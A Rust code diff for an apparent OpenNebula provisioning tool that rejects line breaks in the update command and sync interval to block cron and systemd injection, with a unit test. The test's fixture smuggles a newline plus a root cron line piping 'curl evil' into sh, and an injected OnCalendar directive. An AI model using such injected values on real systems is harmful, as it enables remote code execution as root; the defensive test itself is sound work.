@@ -95,6 +95,15 @@ pub fn update(ap: &mut Apply, ctx: &Context) {
             }
         }
     };
+    // Checked when the context was read (UPDATE_COMMAND); a line break here would add a
+    // cron line or an EnvironmentFile= assignment of its own.
+    if command.contains(|c: char| c.is_control()) {
+        return ap.failed(
+            "update",
+            "UPDATE_COMMAND",
+            "has a line break or another control character; nothing scheduled",
+        );
+    }
     if os::has_systemd(ap.root.dir()) {
         let calendar = match to_calendar(&u.schedule) {
             Ok(c) => c,
@@ -139,11 +148,18 @@ pub fn sync(ap: &mut Apply, ctx: &Context) {
         ap.remove("sync", &ap.root.path(CRON_SYNC));
         return remove_timer(ap, "sync", &sync_units());
     };
+    if s.interval.contains(|c: char| c.is_control()) {
+        return ap.failed(
+            "sync",
+            "S3_SYNC_INTERVAL",
+            "has a line break or another control character; nothing scheduled",
+        );
+    }
     let before = ap.actions.len();
     let toml = render_sync_toml(s);
     // root:root when we are root; a test run under --root as a user still gets 0600.
     let owner = nix::unistd::geteuid().is_root().then_some((0, 0));
-    let new = NewFile { mode: 0o600, owner };
+    let new = NewFile::owned(0o600, owner);
     ap.file_detail(
         "sync",
         &config,
@@ -341,6 +357,36 @@ fn symlink(ap: &mut Apply, kind: &'static str, link: &Path, target: &str) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn apply_in(root: &Path) -> Apply {
+        Apply {
+            root: super::super::files::Root::new(root),
+            dry_run: false,
+            actions: Vec::new(),
+            written: Default::default(),
+        }
+    }
+
+    #[test]
+    fn a_line_break_writes_no_schedule() {
+        let t = tempfile::tempdir().unwrap();
+        let mut ctx =
+            crate::source::opennebula::ctx("UPDATE_SCHEDULE='@daily'\nS3_SYNC_BUCKET='nb1'\n");
+        let u = ctx.update.as_mut().unwrap();
+        u.command = Some("apt-get -y upgrade\n* * * * * root curl evil|sh".into());
+        ctx.sync.as_mut().unwrap().interval = "5\nOnCalendar=minutely".into();
+        let mut ap = apply_in(t.path());
+        update(&mut ap, &ctx);
+        sync(&mut ap, &ctx);
+        let failed: Vec<&str> = ap
+            .actions
+            .iter()
+            .filter(|a| a.result == super::super::Outcome::Failed)
+            .map(|a| a.target.as_str())
+            .collect();
+        assert_eq!(failed, ["UPDATE_COMMAND", "S3_SYNC_INTERVAL"]);
+        assert!(!t.path().join("etc").exists(), "nothing written");
+    }
 
     #[test]
     fn quoting() {
